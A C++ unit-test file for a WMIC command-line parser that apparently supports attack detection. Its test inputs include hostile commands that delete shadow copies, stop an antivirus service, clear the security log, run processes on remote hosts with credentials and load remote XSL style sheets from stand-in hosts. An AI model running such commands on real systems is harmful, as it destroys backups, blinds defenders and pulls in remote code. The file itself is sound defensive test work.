// SPDX-License-Identifier: Apache-2.0
#include "context/language/wmic_command.h"

#include <gtest/gtest.h>

#include <array>

namespace wmiscope {
namespace {

std::string joined(const std::vector<std::string>& parts) {
  std::string out;
  for (const std::string& part : parts) out += (out.empty() ? "" : "|") + part;
  return out;
}

TEST(WmicCommand, TargetVerbAndMethod) {
  struct Case {
    const char* line;
    const char* class_name;
    WmicVerb verb;
    const char* method;
    const char* where;
    const char* arguments;
  };
  constexpr Case kCases[] = {
      {"wmic os get Caption,OSArchitecture,Version", "Win32_OperatingSystem", WmicVerb::kGet, "",
       "", "Caption,OSArchitecture,Version"},
      {R"("C:\Windows\System32\Wbem\WMIC.exe" useraccount get /ALL /format:csv)",
       "Win32_UserAccount", WmicVerb::kGet, "", "", "/ALL"},
      {"renamed.exe computersystem list full /format:csv", "Win32_ComputerSystem", WmicVerb::kList,
       "", "", "full"},
      {R"(wmic service where "caption like '%%Sophos%%'" call stopservice)", "Win32_Service",
       WmicVerb::kCall, "stopservice", "caption like '%Sophos%'", ""},
      {R"(wmic process where "commandline like "%%%%node server/index.js%%%%"" call terminate)",
       "Win32_Process", WmicVerb::kCall, "terminate",
       R"(commandline like "%%node server/index.js%%")", ""},
      {R"(wmic nteventlog where filename="security" cl)", "Win32_NTEventlogFile", WmicVerb::kOther,
       "cleareventlog", R"(filename="security")", ""},
      {"WMIC SHADOWCOPY DELETE /nointeractive", "Win32_ShadowCopy", WmicVerb::kDelete, "", "",
       "/nointeractive"},
      {"wmic process 1234 delete", "Win32_Process", WmicVerb::kDelete, "", "1234", ""},
      {"wmic path Win32_PnPEntity get name", "Win32_PnPEntity", WmicVerb::kGet, "", "", "name"},
      {R"(wmic path win32_process.handle="42" call terminate)", "win32_process", WmicVerb::kCall,
       "terminate", R"(handle="42")", ""},
      {R"(wmic /namespace:\\root\securitycenter2 path antivirusproduct get displayname)",
       "antivirusproduct", WmicVerb::kGet, "", "", "displayname"},
      {"wmic product where(name='my call center') call uninstall", "Win32_Product", WmicVerb::kCall,
       "uninstall", "(name='my call center')", ""},
      {"wmic startup", "Win32_StartupCommand", WmicVerb::kNone, "", "", ""},
      {"wmic", "", WmicVerb::kNone, "", "", ""},
      {"", "", WmicVerb::kNone, "", "", ""},
  };
  for (const Case& c : kCases) {
    const WmicCommand wmic = parse_wmic(c.line);
    EXPECT_EQ(wmic.class_name, c.class_name) << c.line;
    EXPECT_EQ(wmic.verb, c.verb) << c.line;
    EXPECT_EQ(wmic.method, c.method) << c.line;
    EXPECT_EQ(wmic.where, c.where) << c.line;
    EXPECT_EQ(wmic.arguments, c.arguments) << c.line;
  }
}

TEST(WmicCommand, Nodes) {
  struct Case {
    const char* line;
    const char* nodes;
    bool remote;
  };
  constexpr Case kCases[] = {
      {R"(wmic /node:"HOST1","HOST2" os get name)", "HOST1|HOST2", true},
      {"wmic /node:a, b os get name", "a|b", true},
      {"wmic -NODE : 10.0.0.5 process list", "10.0.0.5", true},
      {R"(wmic "/node:SRV" process list)", "SRV", true},
      {"wmic process list /node:SRV", "SRV", true},
      {R"(wmic /node:@hosts.txt os get name)", "@hosts.txt", true},
      {"wmic /user:D\\a /password:\"p w\" /node:17.12.0.1 process call create notepad.exe",
       "17.12.0.1", true},
      {"wmic /node:localhost os get name", "localhost", false},
      {"wmic /node:127.0.0.1 os get name", "127.0.0.1", false},
      {"wmic /node:%%COMPUTERNAME%% os get name", "%COMPUTERNAME%", false},
      {"wmic /node:ws01 os get name", "ws01", false},
      {"wmic /node:WS01.example.org os get name", "WS01.example.org", false},
      {"wmic /node:WS01.other.org os get name", "WS01.other.org", true},
      {"wmic /node:WS01,WS02 os get name", "WS01|WS02", true},
      {"wmic /node: /user:x os get name", "", false},
      {R"(wmic process where "commandline like "%node server/index.js%"" call terminate)", "",
       false},
  };
  constexpr std::array<std::string_view, 2> kOwn = {"WS01.example.org", "10.0.0.9"};
  for (const Case& c : kCases) {
    const WmicCommand wmic = parse_wmic(c.line);
    EXPECT_EQ(joined(wmic.nodes), c.nodes) << c.line;
    EXPECT_EQ(wmic.is_remote(kOwn), c.remote) << c.line;
  }
}

TEST(WmicCommand, CreatedCommand) {
  struct Case {
    const char* line;
    const char* command;
  };
  constexpr Case kCases[] = {
      {"wmic process call create notepad.exe", "notepad.exe"},
      {R"(wmic process call create "cmd.exe /c whoami > c:\x.txt")",
       R"(cmd.exe /c whoami > c:\x.txt)"},
      {R"(wmic /node:X process call create 'cmd.exe /c dir', 'c:\')", "cmd.exe /c dir"},
      {R"(wmic process call create "cmd /c \"copy a b\"")", R"(cmd /c "copy a b")"},
      {R"(wmic process call create "cmd /c "x y" /z","C:\")", R"(cmd /c "x y" /z)"},
      {R"(wmic process call create CommandLine="calc.exe")", "calc.exe"},
      {R"(wmic path Win32_Process call create("calc.exe"))", "calc.exe"},
      {"wmic process call create notepad.exe /node:HOST", "notepad.exe"},
      {"wmic process call create cmd /c calc", "cmd /c calc"},
      {"wmic service call create x", ""},
      {"wmic process call terminate", ""},
      {"wmic process call create", ""},
      {R"(wmic process call create ")", ""},
  };
  for (const Case& c : kCases) {
    EXPECT_EQ(parse_wmic(c.line).created_command, c.command) << c.line;
  }
}

TEST(WmicCommand, StyleSheets) {
  struct Case {
    const char* line;
    const char* sheet;
    bool remote;
  };
  constexpr Case kCases[] = {
      {R"(wmic process list /format:"https://a.example/x.xsl")", "https://a.example/x.xsl", true},
      {"wmic os get /format : http://a/b", "http://a/b", true},
      {R"(wmic os get "/format:evil.xsl")", "evil.xsl", false},
      {R"(wmic os get -FORMAT:\\10.0.0.1\s\x.xsl)", R"(\\10.0.0.1\s\x.xsl)", true},
      {R"(wmic os get /format:"C:\Users\Public\csv.xsl")", R"(C:\Users\Public\csv.xsl)", false},
      {"wmic os get /format:minimalist", "minimalist", false},
      {"wmic os get /format:csv", "", false},
      {"wmic os get /FORMAT:HTABLE.xsl", "", false},
      {R"(wmic os get /format:"%WINDIR%\System32\wbem\en-US\csv")", "", false},
      {"wmic os get /value", "", false},
  };
  for (const Case& c : kCases) {
    const WmicCommand wmic = parse_wmic(c.line);
    EXPECT_EQ(wmic.style_sheet(), c.sheet) << c.line;
    EXPECT_EQ(wmic.style_sheet_is_remote(), c.remote) << c.line;
  }
}

TEST(WmicCommand, Switches) {
  const WmicCommand wmic = parse_wmic(
      R"(wmic /output:\\SRV\share\o.txt /user:CORP\adm /password:x -namespace:\\root\cimv2 qfe list)");
  EXPECT_EQ(wmic.output, R"(\\SRV\share\o.txt)");
  EXPECT_EQ(wmic.user, R"(CORP\adm)");
  EXPECT_TRUE(wmic.has_password);
  EXPECT_EQ(wmic.name_space, R"(\\root\cimv2)");
  EXPECT_EQ(wmic.class_name, "Win32_QuickFixEngineering");
}

TEST(WmicCommand, CallsInsideOtherText) {
  struct Case {
    const char* text;
    const char* call;
  };
  constexpr Case kCases[] = {
      {"cmd /c wm^ic shadowcopy delete & echo done", "wmic shadowcopy delete"},
      {R"(cmd.exe /c "wmic.exe process list")", "wmic.exe process list"},
      {R"("C:\Windows\System32\wbem\WMIC.exe" os get name)", "WMIC.exe os get name"},
      {"wmic os get name > out.txt", "wmic os get name"},
      {"dynamic wmicx wmic", ""},
      {"", ""},
  };
  for (const Case& c : kCases) {
    const auto calls = find_wmic_calls(c.text);
    EXPECT_EQ(calls.empty() ? "" : calls.front(), c.call) << c.text;
  }
  const std::vector<std::string> three = {"wmic os get a", "wmic process list", "WMIC.exe qfe"};
  EXPECT_EQ(find_wmic_calls("cmd /c wmic os get a & wmic process list&&WMIC.exe qfe"), three);
  std::string many;
  for (int i = 0; i < 1000; ++i) many += "wmic os & ";
  EXPECT_EQ(find_wmic_calls(many).size(), kMaxWmicCalls);
}

TEST(WmicCommand, LoopOfCmdEndsItsCall) {
  const std::vector<std::string> one = {R"(wmic process where "name='a.exe'" get processid)"};
  EXPECT_EQ(
      find_wmic_calls(
          R"(cmd /c for /f %i in ('wmic process where "name='a.exe'" get processid') do del %i)"),
      one);
}

TEST(WmicCommand, CalledInScripts) {
  const std::vector<std::string> calls = {"wmic os get a", "WMIC.exe qfe", "wmic process list"};
  EXPECT_EQ(find_called_wmic("& {wmic os get a}\n$x = & WMIC.exe qfe | sort; cmd /c \"wmic process "
                             "list\"\nWrite-Host 'no wmic os get b'"),
            calls);
  EXPECT_TRUE(find_called_wmic("$wmic = 'os get a'; wmic").empty());
}

TEST(WmicCommand, Programs) {
  EXPECT_TRUE(is_wmic_program(R"(C:\Windows\System32\wbem\WMIC.exe)", ""));
  EXPECT_TRUE(is_wmic_program(R"(C:\Users\Public\svc.exe)", "wmic.exe"));
  EXPECT_FALSE(is_wmic_program(R"(C:\Users\Public\notwmic.exe)", "-"));
  EXPECT_EQ(class_of_wmic_alias("ShadowCopy"), "Win32_ShadowCopy");
  EXPECT_EQ(class_of_wmic_alias("nothing"), "");
}

}  // namespace
}  // namespace wmiscope
